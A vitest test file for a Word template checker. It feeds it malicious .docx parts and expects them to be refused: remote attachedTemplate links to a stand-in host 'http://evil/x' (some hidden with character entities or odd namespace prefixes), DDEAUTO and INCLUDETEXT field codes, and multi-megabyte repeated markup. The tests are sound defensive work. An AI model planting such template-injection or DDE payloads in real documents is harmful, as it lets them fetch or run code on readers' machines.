import { Buffer } from 'node:buffer'
import { describe, expect, it } from 'vitest'
import { checkTemplate } from '../../server/briefing/word/check.ts'
import { unzip } from '../support/unzip.ts'
import { documentOf } from '../support/wordDocument.ts'
import { zipOf } from '../support/zip.ts'

async function changed(change: Record<string, string>): Promise<Buffer> {
  const parts = await unzip(await documentOf(['{{受理量}}']))
  for (const [name, text] of Object.entries(change)) parts.set(name, Buffer.from(text))
  return zipOf(Array.from(parts, ([name, bytes]) => ({ name, content: [bytes.toString('utf8')] })))
}

const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const relations = (attributes: string): string =>
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  `<Relationship Id="r1" ${attributes}/></Relationships>`
const template = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'

describe('a template that hides what it fetches or runs', () => {
  it.each<[string, Record<string, string>]>([
    [
      'in characters written as numbers',
      {
        'word/_rels/settings.xml.rels': relations(
          `Type="${template}" Target="http://evil/x" TargetMode="&#69;xternal"`,
        ),
      },
    ],
    [
      'behind another prefix',
      {
        'word/_rels/settings.xml.rels':
          '<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships">' +
          `<p:Relationship Id="r1" Type="${template}" Target="http://evil/x" TargetMode="External"/>` +
          `</p:Relationships>`,
      },
    ],
    [
      'in a field of another prefix',
      { 'word/footer9.xml': `<x:ftr xmlns:x="${word}"><x:instrText>DDEAUTO c:\\x</x:instrText></x:ftr>` },
    ],
    [
      'in a field whose letters are numbers',
      { 'word/footer9.xml': `<w:ftr xmlns:w="${word}"><w:instrText>DDE&#65;UTO c:\\x</w:instrText></w:ftr>` },
    ],
    [
      'in a part that holds no text of its own',
      {
        'word/comments.xml':
          `<w:comments xmlns:w="${word}">` + `<w:instrText>INCLUDETEXT x</w:instrText></w:comments>`,
      },
    ],
  ])('is refused: %s', async (_, change) => {
    await expect(changed(change).then(checkTemplate)).rejects.toMatchObject({ name: 'template-refused' })
  })
})

describe('a small template that is long to read', () => {
  const megabytes = 4
  const many = (text: string): string => text.repeat(Math.floor((megabytes << 20) / text.length))

  it.each([
    ['relations', 'word/_rels/settings.xml.rels', '<Relationship '],
    ['fields', 'word/footer9.xml', '<w:instrText '],
    ['simple fields', 'word/footer9.xml', '<w:fldSimple w:instr '],
  ])('of %s that never end is no document', async (_, name, text) => {
    await expect(changed({ [name]: `<a>${many(text)}` }).then(checkTemplate)).rejects.toMatchObject({
      name: 'template-not-docx',
    })
  })

  it.each(['{{受理量}}', '{{x}}', '{{', '}}', '{{#如果 受理量 > 1}}', '{'])(
    'of many %s in one paragraph says what is wrong',
    async text => {
      const run = `<w:r><w:t>${many(text)}</w:t></w:r>`
      const body = `<w:document xmlns:w="${word}"><w:body><w:p>${run}</w:p></w:body></w:document>`
      const { problems } = await checkTemplate(await changed({ 'word/document.xml': body }))
      expect(Array.isArray(problems)).toBe(true)
    },
  )
})
